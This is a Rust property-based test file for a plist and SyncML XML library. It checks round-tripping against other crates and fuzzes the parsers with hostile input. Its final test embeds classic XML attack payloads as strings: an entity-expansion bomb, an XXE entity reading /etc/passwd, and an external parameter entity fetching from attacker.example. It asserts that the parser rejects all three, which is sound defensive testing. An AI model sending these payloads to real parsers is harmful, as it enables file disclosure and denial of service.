//! Property lists, against the crate `plist`; text, against `quick-xml`.

use mdm_proto::{
    plist::{Dictionary, ReadErrorKind, Value, XmlErrorKind},
    syncml::{Command, Item, SyncBody},
};
use pki_core::{Limits, UnixTime};
use proptest::prelude::*;
use quick_xml::events::Event;

/// The same value as the crate `plist` has it.
fn theirs(value: &Value) -> plist::Value {
    match value {
        Value::Array(elements) => plist::Value::Array(elements.iter().map(theirs).collect()),
        Value::Boolean(value) => (*value).into(),
        Value::Data(octets) => plist::Value::Data(octets.clone()),
        Value::Date(time) => plist::Value::Date(plist::Date::from_xml_format(&time.to_string()).unwrap()),
        Value::Dictionary(dictionary) => {
            let mut entries = plist::Dictionary::new();
            for (key, value) in dictionary.iter() {
                entries.insert(key.into(), theirs(value));
            }
            plist::Value::Dictionary(entries)
        }
        Value::Integer(number) => (*number).into(),
        Value::Real(number) => (*number).into(),
        Value::String(text) => text.as_str().into(),
        other => panic!("{other:?}"),
    }
}

/// Text that XML can carry.
fn text() -> impl Strategy<Value = String> {
    let carried = |c: char| !matches!(c, '\0'..='\x08' | '\x0b' | '\x0c' | '\x0e'..='\x1f' | '\u{fffe}' | '\u{ffff}');
    let character = prop_oneof![
        4 => prop::char::range(' ', '~'),
        2 => prop::sample::select(vec!['&', '<', '>', '"', '\'', ']', '\n', '\r', '\t', ' ', ';', '#']),
        1 => any::<char>().prop_filter("XML has it", move |c| carried(*c)),
    ];
    prop::collection::vec(character, 0..24).prop_map(String::from_iter)
}

fn value() -> impl Strategy<Value = Value> {
    let seconds = UnixTime::from_civil(1, 1, 1, 0, 0, 0).unwrap().as_seconds()..=253_402_300_799;
    let leaf = prop_oneof![
        any::<bool>().prop_map(Value::Boolean),
        any::<i64>().prop_map(Value::Integer),
        prop::num::f64::NORMAL.prop_map(Value::Real),
        prop::collection::vec(any::<u8>(), 0..40).prop_map(Value::Data),
        seconds.prop_map(|seconds| Value::Date(UnixTime::from_seconds(seconds))),
        text().prop_map(Value::String),
    ];
    leaf.prop_recursive(5, 40, 6, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::vec((text(), inner), 0..6)
                .prop_map(|entries| Value::Dictionary(entries.into_iter().collect::<Dictionary>())),
        ]
    })
}

proptest! {
    #[test]
    fn what_we_write_the_crate_plist_reads_as_the_same(value in value()) {
        let document = value.to_xml().unwrap();
        let read = plist::Value::from_reader_xml(document.as_bytes()).unwrap();
        prop_assert_eq!(read, theirs(&value));
        prop_assert_eq!(Value::from_xml(document.as_bytes(), Limits::DEFAULT).unwrap(), value);
    }

    #[test]
    fn what_the_crate_plist_writes_we_read_as_the_same(value in value()) {
        let mut document = Vec::new();
        theirs(&value).to_writer_xml(&mut document).unwrap();
        // A carriage return that is not escaped is no carriage return (XML 1.0 section 2.11).
        prop_assume!(!document.contains(&b'\r'));
        prop_assert_eq!(Value::from_xml(&document, Limits::DEFAULT).unwrap(), value);
    }

    #[test]
    fn text_is_escaped_as_quick_xml_reads_it(text in text()) {
        let body = SyncBody::new([Command::add(Item::new(text.clone()).with_data(text.clone()))]);
        let document = body.to_xml().unwrap();
        let mut reader = quick_xml::Reader::from_str(&document);
        let (mut inside, mut read) = (String::new(), Vec::new());
        loop {
            match reader.read_event().unwrap() {
                Event::Start(_) => inside.clear(),
                Event::Text(text) => inside.push_str(&text),
                Event::GeneralRef(reference) => match reference.resolve_char_ref().unwrap() {
                    Some(character) => inside.push(character),
                    None => {
                        inside.push_str(quick_xml::escape::resolve_predefined_entity(&reference).unwrap());
                    }
                },
                Event::End(end) if matches!(end.local_name().as_ref(), "LocURI" | "Data") => read.push(inside.clone()),
                Event::Eof => break,
                _ => {}
            }
        }
        let expected = if text.is_empty() { vec![text] } else { vec![text.clone(), text] };
        prop_assert_eq!(read, expected);
    }

    /// Whatever comes, it is an answer.
    #[test]
    fn hostile_documents_are_answered(octets in prop::collection::vec(any::<u8>(), 0..200), cut in 0_usize..2000) {
        let _ = Value::from_xml(&octets, Limits::DEFAULT);
        let _ = SyncBody::from_xml(&octets, Limits::DEFAULT);
        let whole = super::shared::GOLDEN.as_bytes();
        let cut = &whole[..cut.min(whole.len())];
        let _ = Value::from_xml(&[cut, &octets].concat(), Limits::DEFAULT);
    }
}

/// The classic attacks on XML readers, as they are published.
#[test]
fn entities_are_never_expanded() {
    let laughs = r#"<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]>
        <plist><string>&lol2;</string></plist>"#;
    let external = r#"<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><plist><string>&xxe;</string></plist>"#;
    let parameter = r#"<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x">%ext;]><plist><true/></plist>"#;
    for document in [laughs, external, parameter] {
        let error = Value::from_xml(document.as_bytes(), Limits::DEFAULT).unwrap_err();
        assert_eq!(error.kind(), ReadErrorKind::Xml(XmlErrorKind::Doctype));
    }
}
